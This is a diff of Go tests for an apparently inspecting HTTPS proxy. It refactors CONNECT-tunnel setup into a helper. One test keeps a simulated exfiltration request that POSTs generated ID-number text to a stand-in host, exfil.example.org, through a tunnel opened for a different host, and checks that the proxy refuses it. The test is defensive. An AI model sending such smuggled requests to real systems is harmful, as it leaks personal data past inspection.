@@ -250,19 +250,7 @@ func TestExpectContinue(t *testing.T) {
 // (g) One keep-alive TLS connection carries clean, bad, clean (pipelined).
 func TestKeepAliveCleanBadClean(t *testing.T) {
 	h := newHarness(t, harnessConfig{})
-	raw, err := net.Dial("tcp", h.addr)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer raw.Close()
-	raw.SetDeadline(time.Now().Add(30 * time.Second))
-	fmt.Fprintf(raw, "CONNECT oapi.dingtalk.com:443 HTTP/1.1\r\nHost: oapi.dingtalk.com:443\r\n\r\n")
-	br := bufio.NewReader(raw)
-	cr, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
-	if err != nil || cr.StatusCode != 200 {
-		t.Fatalf("CONNECT: %v %v", cr, err)
-	}
-	conn := tls.Client(raw, &tls.Config{ServerName: "oapi.dingtalk.com", RootCAs: h.ca.Pool()})
+	conn := h.tlsTunnel(t, "oapi.dingtalk.com")
 	bad, _ := hkidText(3)
 	bodies := []string{string(robotJSON("first clean")), string(robotJSON(bad)), string(robotJSON("third clean"))}
 	var out bytes.Buffer
@@ -1053,17 +1041,7 @@ func TestMemoryTotalSpills(t *testing.T) {
 // scope would tunnel) is refused, not forwarded uninspected.
 func TestHostMismatchInsideTunnelRefused(t *testing.T) {
 	h := newHarness(t, harnessConfig{})
-	raw, err := net.Dial("tcp", h.addr)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer raw.Close()
-	raw.SetDeadline(time.Now().Add(20 * time.Second))
-	fmt.Fprintf(raw, "CONNECT oapi.dingtalk.com:443 HTTP/1.1\r\nHost: oapi.dingtalk.com:443\r\n\r\n")
-	if resp, err := http.ReadResponse(bufio.NewReader(raw), nil); err != nil || resp.StatusCode != 200 {
-		t.Fatal(resp, err)
-	}
-	conn := tls.Client(raw, &tls.Config{ServerName: "oapi.dingtalk.com", RootCAs: h.ca.Pool()})
+	conn := h.tlsTunnel(t, "oapi.dingtalk.com")
 	bad, _ := hkidText(3)
 	fmt.Fprintf(conn, "POST /upload HTTP/1.1\r\nHost: exfil.example.org\r\nContent-Length: %d\r\n\r\n%s", len(bad), bad)
 	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
